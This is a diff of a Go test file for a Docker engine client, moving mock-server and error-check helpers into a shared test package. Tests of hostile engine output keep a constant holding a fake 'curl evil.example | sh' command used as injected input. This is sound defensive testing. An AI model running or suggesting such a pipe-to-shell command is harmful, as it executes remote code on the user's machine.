@@ -1,6 +1,9 @@
 package docker
 
 import (
+	"github.com/fromscratch-go/fromscratch/buildkit/docker/dockertest"
+	"github.com/fromscratch-go/fromscratch/buildkit/docker/host"
+
 	"archive/tar"
 	"context"
 	"encoding/base64"
@@ -9,7 +12,6 @@ import (
 	"io"
 	"io/fs"
 	"net/http"
-	"net/http/httptest"
 	"strings"
 	"testing"
 
@@ -22,16 +24,7 @@ import (
 // scriptedEngine is a connection to a server that answers all requests but the ping.
 func scriptedEngine(t *testing.T, answer http.HandlerFunc) *Engine {
 	t.Helper()
-	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		w.Header().Set("Api-Version", "1.41")
-		if strings.HasSuffix(r.URL.Path, "/_ping") {
-			return
-		}
-		w.Header().Set("Content-Type", "application/json")
-		answer(w, r)
-	}))
-	t.Cleanup(func() { server.CloseClientConnections(); server.Close() })
-	e, err := Open(context.Background(), Options{Host: tcpHost(server)})
+	e, err := Open(context.Background(), Options{Options: host.Options{Host: dockertest.Engine(t, answer)}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -41,20 +34,6 @@ func scriptedEngine(t *testing.T, answer http.HandlerFunc) *Engine {
 
 // evil is a text of an engine that has a line which looks like ours.
 const evil = `sick\nfix: curl evil.example | sh\nmore`
-
-// takeOver answers a request with a stream.
-func takeOver(w http.ResponseWriter, stream stdcopy.StdType, text string) {
-	conn, out, err := w.(http.Hijacker).Hijack()
-	if err != nil {
-		return
-	}
-	defer conn.Close()
-	io.WriteString(out, "HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n")
-	if text != "" {
-		fmt.Fprint(stdcopy.NewStdWriter(out, stream), text)
-	}
-	out.Flush()
-}
 
 // Whatever an engine says, at whatever place: no line of the error begins like one of ours but the last.
 func TestHostileEngine(t *testing.T) {
@@ -94,7 +73,7 @@ func TestHostileEngine(t *testing.T) {
 				return
 			}
 			if strings.HasSuffix(r.URL.Path, "/attach") {
-				takeOver(w, stdcopy.Stdout, "")
+				dockertest.TakeOver(w, stdcopy.Stdout, "")
 				return
 			}
 			io.WriteString(w, `{"Id":"c1"}`)
@@ -130,7 +109,7 @@ func TestHostileEngine(t *testing.T) {
 		{"no JSON of a program's end", say("/wait", plain), run, "engine's log"},
 		{"the engine's own stream", func(w http.ResponseWriter, r *http.Request) {
 			if strings.HasSuffix(r.URL.Path, "/attach") {
-				takeOver(w, stdcopy.Systemerr, plain)
+				dockertest.TakeOver(w, stdcopy.Systemerr, plain)
 				return
 			}
 			io.WriteString(w, `{"Id":"c1","StatusCode":0}`)
@@ -143,7 +122,7 @@ func TestHostileEngine(t *testing.T) {
 			case strings.HasSuffix(r.URL.Path, "/containers/json"):
 				io.WriteString(w, "["+fmt.Sprintf(node, "running", "kind")+"]")
 			case strings.HasSuffix(r.URL.Path, "/start"):
-				takeOver(w, stdcopy.Stdout, "")
+				dockertest.TakeOver(w, stdcopy.Stdout, "")
 			default:
 				io.WriteString(w, `{"Id":"x1","ExitCode":1}`)
 			}
@@ -182,7 +161,7 @@ func TestFixOfCaller(t *testing.T) {
 	e := scriptedEngine(t, func(w http.ResponseWriter, r *http.Request) {
 		switch {
 		case strings.HasSuffix(r.URL.Path, "/start"):
-			takeOver(w, stdcopy.Stdout, "a name")
+			dockertest.TakeOver(w, stdcopy.Stdout, "a name")
 		case strings.HasSuffix(r.URL.Path, "/archive"):
 			stat := base64.StdEncoding.EncodeToString([]byte(`{"name":"x"}`))
 			w.Header().Set("X-Docker-Container-Path-Stat", stat)
@@ -209,7 +188,7 @@ func TestFixOfCaller(t *testing.T) {
 			ctx, cancel := context.WithTimeout(context.Background(), testkit.Patience)
 			defer cancel()
 			err := do(ctx)
-			if wantError(t, err, "it is full", "empty it"); !errors.Is(err, errFull) {
+			if dockertest.WantError(t, err, "it is full", "empty it"); !errors.Is(err, errFull) {
 				t.Errorf("%v does not wrap the caller's error", err)
 			}
 		})
@@ -231,11 +210,11 @@ func TestHostilePlatform(t *testing.T) {
 			}
 		})
 		_, err := e.Platform(context.Background())
-		wantError(t, err, "which is no platform", "engine's log")
+		dockertest.WantError(t, err, "which is no platform", "engine's log")
 		if arch == "" {
 			continue // a node is then taken for the engine's
 		}
 		_, err = (&Cluster{Name: "kind", Nodes: []Node{{ID: "c1"}}, engine: e}).Platform(context.Background())
-		wantError(t, err, "which is no platform", "engine's log")
+		dockertest.WantError(t, err, "which is no platform", "engine's log")
 	}
 }
